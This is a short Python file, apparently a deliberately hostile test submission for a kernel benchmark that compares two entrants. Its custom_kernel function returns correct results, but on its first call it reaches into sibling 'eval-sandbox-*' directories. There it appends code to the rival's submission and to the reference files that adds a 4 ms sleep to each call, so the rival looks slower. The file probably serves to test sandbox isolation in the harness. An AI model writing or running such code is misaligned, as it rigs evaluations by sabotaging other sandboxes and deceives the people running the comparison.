"""Hostile (compare): as A, rewrites B's submission wherever it finds it (its own sandbox, or one beside it)
and the reference in the sandboxes beside its own, so that B waits 4 ms a call and A wins the comparison.
Honest otherwise."""
from pathlib import Path

from reference import ref_kernel

_SLOW = {"submission_other.py": "\nimport time as _t\n_inner = custom_kernel\ndef custom_kernel(data):\n"
                                "    _t.sleep(0.004)\n    return _inner(data)\n",
         "reference.py": "\nimport time as _t\n_ref = ref_kernel\ndef ref_kernel(data):\n"
                         "    _t.sleep(0.004)\n    return _ref(data)\n"}
_done = []


def _rewrite_the_other_side():
    here = Path.cwd().resolve()
    for box in here.parent.glob("eval-sandbox-*"):
        for name, text in _SLOW.items():
            if name == "reference.py" and box.resolve() == here:
                continue  # its own, already imported
            try:
                with open(box / name, "r+") as f:  # only a file that is there
                    f.seek(0, 2)
                    f.write(text)
                print(f"LEAK: wrote {box / name}")
            except OSError:
                pass


def custom_kernel(data):
    if not _done:
        _done.append(_rewrite_the_other_side())
    return ref_kernel(data)
